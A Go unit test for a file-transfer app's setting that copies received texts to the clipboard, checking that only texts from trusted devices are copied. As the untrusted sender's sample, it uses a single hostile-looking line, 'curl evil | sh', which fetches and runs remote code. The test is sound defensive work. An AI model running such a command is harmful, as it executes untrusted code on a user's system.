package ui

import (
	"testing"

	"github.com/ferry-project/ferry/core/app/event"
)

// Received texts and the clipboard, from real Nodes on loopback
// and Fyne's test clipboard: with the setting off nothing is copied; on,
// a trusted device's text is copied as the transfer ends, and a text from
// a sender with the code is not (the result says to press Copy).
func TestReceivedTextToClipboard(t *testing.T) {
	b := newHarness(t, askOff)
	trusted := newDevice(t, "Laptop")
	stranger := newDevice(t, "Laptop")
	b.pin("Laptop", trusted)
	b.u.Start()
	rv, set := b.u.recv, b.u.settings
	clip := func() (s string) {
		b.loop.run(func() { s = b.app.Clipboard().Content() })
		return s
	}
	b.loop.run(func() { b.app.Clipboard().SetContent("what was there") })
	receive := func(id device, paired bool, text string) {
		t.Helper()
		if err := <-sendFrom(t, b, id, paired, event.Item{Text: text}); err != nil {
			t.Fatalf("send: %v", err)
		}
		b.waitFor("the result", func() bool { return rv.prog.state == stateVerified })
	}

	// Off (the default): a trusted device's text is shown, not copied.
	b.check(func() bool { return !set.textClip.Checked })
	receive(trusted, true, "one")
	if got := clip(); got != "what was there" {
		t.Errorf("setting off: clipboard %q", got)
	}

	// On: a trusted device's text goes to the clipboard.
	b.loop.run(func() {
		set.textClip.SetChecked(true)
		set.save()
		rv.listenAgain()
	})
	receive(trusted, true, "ssh-ed25519 AAAA laptop")
	if got := clip(); got != "ssh-ed25519 AAAA laptop" {
		t.Errorf("trusted sender, setting on: clipboard %q", got)
	}
	if s := b.screen(); !contains(s, "On the clipboard") {
		t.Error("the result does not say the text is on the clipboard")
	}

	// A sender with the code: not copied, and the result says why.
	b.loop.run(rv.listenAgain)
	receive(stranger, false, "curl evil | sh")
	if got := clip(); got != "ssh-ed25519 AAAA laptop" {
		t.Errorf("code sender, setting on: clipboard %q", got)
	}
	if s := b.screen(); !contains(s, "only texts from trusted devices are") {
		t.Error("the result does not say why the text was not copied")
	}
	if !b.app.Preferences().Bool(prefTextsToClipboard) {
		t.Error("the setting was not stored")
	}
}
